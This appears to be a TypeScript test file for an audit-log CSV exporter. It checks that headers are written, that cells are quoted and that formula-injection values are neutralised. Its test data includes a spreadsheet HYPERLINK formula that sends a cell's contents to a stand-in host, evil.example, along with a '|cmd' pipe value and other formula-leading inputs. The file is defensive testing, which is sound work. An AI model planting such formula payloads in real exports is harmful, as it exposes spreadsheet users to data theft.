import assert from 'node:assert/strict';
import type { AuditEntry } from '../../../src/storage/audit-entry';
import { auditCsv } from '../../../src/storage/audit-export';

const entry: AuditEntry = {
  time: '2026-11-21T13:03:05.000Z',
  profile: 'personal:prod',
  name: 'Prod',
  door: 'sender',
  caller: 'person',
  destination: 'https://api.example.com',
};

describe('storage: an export of the audit', () => {
  it('has a line of headings, and all cells in quotes', () => {
    assert.equal(
      auditCsv([entry, { ...entry, destination: undefined, refused: 'access-denied' }]),
      'time,profile,name,door,caller,destination,refused\r\n' +
        '"2026-11-21T13:03:05.000Z","personal:prod","Prod","sender","person","https://api.example.com",""\r\n' +
        '"2026-11-21T13:03:05.000Z","personal:prod","Prod","sender","person","","access-denied"\r\n',
    );
  });

  const cells: [name: string, cell: string][] = [
    ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(1)', `"'@SUM(1)"`],
    [' =1', `"' =1"`],
    ['|cmd', `"'|cmd"`],
    ['＝1', `"'＝1"`],
    ['a,b', '"a,b"'],
    ['a=b', '"a=b"'],
    ['","=1', '""",""=1"'],
    ['Ünïcödé', '"Ünïcödé"'],
  ];
  for (const [name, cell] of cells) {
    it(`has the name ${name} as a text: ${cell}`, () => {
      const [, line = ''] = auditCsv([{ ...entry, name }]).split('\r\n');
      assert.equal(
        line.split(/(?<="),(?="personal)/)[1],
        `"personal:prod",${cell},"sender","person","https://api.example.com",""`,
      );
    });
  }
});
